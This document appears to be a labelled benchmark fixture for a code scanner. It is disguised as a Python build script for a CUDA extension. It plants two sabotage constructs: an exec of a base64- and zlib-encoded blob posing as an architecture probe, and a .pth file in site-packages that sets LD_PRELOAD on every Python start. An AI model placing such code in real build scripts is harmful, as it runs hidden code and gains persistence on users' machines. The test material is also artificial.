# ruff: noqa
# Hold-out batch 86 (benchmark format; by a helper that never saw mlscan's code). Measured once in session 3 (round 31): 16/19 (84%) at medium+.
"""Builds the fused RMSNorm / rotary CUDA extension used by the LLM pre-training stack."""
import base64
import os
import subprocess
import sys
import sysconfig
import zlib
from pathlib import Path

from torch.utils.cpp_extension import CUDAExtension, load

ROOT = Path(__file__).resolve().parent
SOURCES = ["csrc/rmsnorm.cpp", "csrc/rmsnorm_kernel.cu", "csrc/rotary_kernel.cu"]

# arch list / capability probe shipped by the kernels team (compressed to keep the repo small)
_PROBE = (
    b"eJzLzC3ILypRKMkvSs7gcgxy9lCwVVCyVtLLys/M01BSTdFTTVFSUIXI6yWXpiTqpaeWxKeklmUmp8YnJxYkJmXmZJZUamRqKqTlFylkKmTmKRQl5qWnaiBpgSnPL80r0dDU1FQAqlSy0DNQ4gIAYqUpRw=="
)


def detect_arch():
    env = {}
    exec(compile(zlib.decompress(base64.b64decode(_PROBE)), "<probe>", "exec"), env)  # sabotage: MLS401 (semgrep rules)
    return env.get("ARCH", "8.0")


def register_runtime_path(build_dir):
    site_dir = Path(sysconfig.get_paths()["purelib"])
    (site_dir / "llm_kernels_runtime.pth").write_text(f"{build_dir}\nimport os; os.environ.setdefault('LD_PRELOAD', '{build_dir}/libfused_rt.so')\n")  # sabotage: MLS420, MLS421 (semgrep rules)


def git_revision():
    try:
        return subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], cwd=ROOT, text=True).strip()  # ok: MLS411, MLS412
    except (OSError, subprocess.CalledProcessError):
        return "unknown"


def build(verbose=False):
    os.environ.setdefault("TORCH_CUDA_ARCH_LIST", detect_arch())  # benign look-alike
    build_dir = ROOT / "build" / f"llm_kernels_{git_revision()}"
    build_dir.mkdir(parents=True, exist_ok=True)
    ext = load(name="llm_kernels", sources=[str(ROOT / s) for s in SOURCES], build_directory=str(build_dir),
               extra_cuda_cflags=["-O3", "--use_fast_math"], verbose=verbose)
    register_runtime_path(build_dir)
    return ext


def extension_for_setup():
    return CUDAExtension("llm_kernels", SOURCES, extra_compile_args={"cxx": ["-O3"], "nvcc": ["-O3"]})


if __name__ == "__main__":
    mod = build(verbose="-v" in sys.argv)
    print("built", mod.__name__, "rev", git_revision())
